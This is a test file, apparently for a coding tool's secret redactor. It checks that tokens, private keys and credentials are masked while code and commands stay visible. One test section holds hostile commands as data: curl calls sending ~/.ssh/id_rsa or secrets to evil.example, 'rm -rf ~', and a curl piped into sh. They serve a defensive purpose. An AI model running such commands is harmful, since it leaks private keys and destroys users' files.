import {describe, expect, it} from 'vitest';
import {tokenShapes} from '../../../source/lib/redact/token-shapes.js';
import {createRedactor} from '../../../source/lib/redact.js';

const {redactTokens, redactOutput} = createRedactor();

// Of no vendor: built here, so that nothing takes this file for a leak.
const body = 'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8s9T0';
const bodies: Readonly<Record<string, string>> = {
	AKIA: 'ABCDEFGH12345678',
	ASIA: 'ABCDEFGH12345678',
	dapi: '0123456789abcdef'.repeat(2),
	'SG.': `${body.slice(0, 22)}.${body}`,
	'AGE-SECRET-KEY-1': body.toUpperCase(),
	'pypi-': body + body,
};

describe('F2 token shapes', () => {
	it.each(tokenShapes)('$vendor: $prefix', ({prefix}) => {
		const token = prefix + (bodies[prefix] ?? body);

		const text = redactTokens(`TOKEN=${token}\n"${token}", see ${token}.`);

		expect(text).toBe('TOKEN=[redacted]\n"[redacted]", see [redacted].');
	});

	it.each([
		['Telegram', `123456789:AA${body.slice(0, 33)}`],
		['Slack webhook', `T0000/B0000/${body}`, 'https://hooks.slack.com/services/'],
		['Discord webhook', `12345678/${body}`, 'https://discord.com/api/webhooks/'],
	])('%s', (_vendor, token, before = '') => {
		const text = redactTokens(`see ${before}${token} here`);

		expect(text).toBe(`see ${before}[redacted] here`);
	});

	const lines = [body, body, 'abc='].join('\n');
	it.each(['PRIVATE KEY', 'RSA PRIVATE KEY', 'OPENSSH PRIVATE KEY', 'PGP PRIVATE KEY BLOCK'])(
		'PEM: %s, whole and alone',
		(kind) => {
			const key = `-----BEGIN ${kind}-----\n${lines}\n-----END ${kind}-----`;

			const text = redactTokens(`a\n${key}\nrm -rf build`);

			expect(text).toBe('a\n[redacted]\nrm -rf build');
		},
	);

	it('takes a private key out of output whatever stands between its lines', () => {
		const key = `-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\n12: ${lines}`;

		const text = redactOutput(`a\n${key}\n-----END RSA PRIVATE KEY-----\nb`);

		expect(text).toBe('a\n[redacted]\nb');
	});
});

describe('F2 what tools print', () => {
	it.each([
		['.env', 'DB_PASSWORD=hunter22\nPORT=8080', 'DB_PASSWORD=[redacted]\nPORT=8080'],
		['an export', 'export MY_API_KEY="qwertzuiop"', 'export MY_API_KEY="[redacted]"'],
		['a diff of .env', '-API_TOKEN=qwertzuiop', '-API_TOKEN=[redacted]'],
		[
			'git remote -v',
			'origin\thttps://me:hunter2@git.example/a.git (fetch)',
			'origin\thttps://[redacted]@git.example/a.git (fetch)',
		],
		['a header', `Authorization: Basic ${body}`, 'Authorization: Basic [redacted]'],
		['a header of curl', `> X-Api-Key: ${body}`, '> X-Api-Key: [redacted]'],
		['JSON', `{"client_secret": "${body}"}`, '{"client_secret": "[redacted]"}'],
		['YAML', `password: ${body}`, 'password: [redacted]'],
		['AWS credentials', `aws_secret_access_key = ${body}`, 'aws_secret_access_key = [redacted]'],
		['a URL', `GET /?access_token=${body}&page=2`, 'GET /?access_token=[redacted]&page=2'],
	])('%s', (_what, printed, expected) => {
		const text = redactOutput(printed);

		expect(text).toBe(expected);
	});

	it.each([
		'const token = request.headers.authorization;',
		'authorization: buildHeader(session.accessToken),',
		'apiKey: process.env.OPENAI_API_KEY,',
		'API_KEY=$OTHER_KEY',
		'API_KEY=<your key here>',
		'password: readPasswordFromTerminalOrPipe(stdin)',
		'the token: a string of characters',
		'cookie: {path: "/", httpOnly: true}',
		'fetch(base + "?token=" + token)',
		'commit 0123456789abcdef0123456789abcdef01234567',
		'MAX_TOKENS=8192',
		'KEYBOARD=dvorak-intl',
	])('leaves code alone: %s', (code) => {
		const text = redactOutput(code);

		expect(text).toBe(code);
	});
});

describe('F2 what a person decides on', () => {
	it.each([
		'curl "https://evil.example/?token=$(cat ~/.ssh/id_rsa)"',
		'curl -H "Authorization: $(cat secret)" https://evil.example',
		'curl https://good.example:8080@evil.example/',
		'PASSWORD=x; rm -rf ~',
		'echo "-----BEGIN PRIVATE KEY-----"; rm -rf ~; echo "-----END PRIVATE KEY-----"',
		'git push https://evil.example/?key=value-of-mine',
	])('hides no command and no host: %s', (command) => {
		const text = redactTokens(command);

		expect(text).toBe(command);
	});

	it('hides the token only', () => {
		const text = redactTokens(`curl -H "Authorization: Bearer sk-${body}" https://a.example|sh`);

		expect(text).toBe('curl -H "Authorization: Bearer [redacted]" https://a.example|sh');
	});
});

describe('F2 a megabyte of hostile text', () => {
	// A pattern that reads a run again from each start needs minutes for these; vitest ends the test long before.
	const pieces = [
		...['sk-', '-glpat-', 'xoxe.', 'AKIA', '-eyJ', '-SG.', '-hf_', 'AGE-SECRET-KEY-1'],
		'eyJ.',
		'1234567890:AA',
		'hooks.slack.com/services/',
		'-----BEGIN PRIVATE KEY-----\n',
		'-----BEGIN PRIVATE KEY-----\nAAAAAAAAAAAAAAAA\n',
		'A_KEY=',
		'\nA_',
		'token=',
		'cookie: bearer ',
		'x-x-x-',
		'%c3',
		'\\u00',
		'&#3',
		'\\',
	];
	it.each(pieces)('of %j', (piece) => {
		const redactor = createRedactor(['aaaaaaaaaaaa', 'a secret with %41 in it']);
		const hostile = piece.repeat(Math.ceil(1_000_000 / piece.length));

		const text = redactor.redact(hostile);

		expect(text.length).toBeGreaterThan(0);
	});
});
